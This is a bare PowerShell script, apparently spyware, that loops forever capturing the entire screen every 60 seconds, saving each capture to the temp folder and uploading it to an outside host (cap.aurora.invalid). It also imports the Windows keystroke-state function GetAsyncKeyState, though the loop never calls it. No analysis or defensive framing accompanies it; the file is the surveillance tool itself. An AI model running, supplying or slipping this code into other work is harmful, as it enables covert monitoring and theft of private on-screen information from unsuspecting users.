Add-Type -AssemblyName System.Windows.Forms, System.Drawing
Add-Type -MemberDefinition '[DllImport("user32.dll")] public static extern short GetAsyncKeyState(int v);' -Name K -Namespace W
while ($true) {
  $b = [System.Windows.Forms.SystemInformation]::VirtualScreen
  $bmp = New-Object System.Drawing.Bitmap $b.Width, $b.Height
  [System.Drawing.Graphics]::FromImage($bmp).CopyFromScreen($b.Left, $b.Top, 0, 0, $bmp.Size)
  $bmp.Save("$env:TEMP\s.png")
  Invoke-RestMethod -Uri 'https://cap.aurora.invalid/u' -Method Post -InFile "$env:TEMP\s.png"
  Start-Sleep 60
}
